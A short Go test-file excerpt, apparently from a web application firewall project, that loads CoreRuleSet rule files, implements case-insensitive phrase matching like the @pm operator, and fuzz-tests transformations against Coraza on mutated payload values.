func fsReadCRS(name string) (string, error) {
	b, err := fs.ReadFile(coreruleset.FS, path.Join(crsDir, name))
	return string(b), err
}

// phraseSearch is @pm's match: some phrase occurs in the value, ASCII case-insensitively.
func phraseSearch(phrases []string) func(string) bool {
	return func(v string) bool {
		lv := lowerASCII(v)
		for _, p := range phrases {
			if strings.Contains(lv, lowerASCII(p)) {
				return true
			}
		}
		return false
	}
}

// TestScreenFuzzTransformations compares every transformation the screen computes with
// Coraza's on random (mutated payload) values, beyond TestScreenTransformations' payloads.
func TestScreenFuzzTransformations(t *testing.T) {
	g := &fuzzGen{r: screenFuzzRand(), seeds: screenFuzzSeeds(t)}
	n := screenFuzzCount(4000, 300)
	values := make([]string, n)
	for i := range values {
		values[i] = g.mutate(g.seed())
	}
	checkStepsAgainstCoraza(t, values)
}
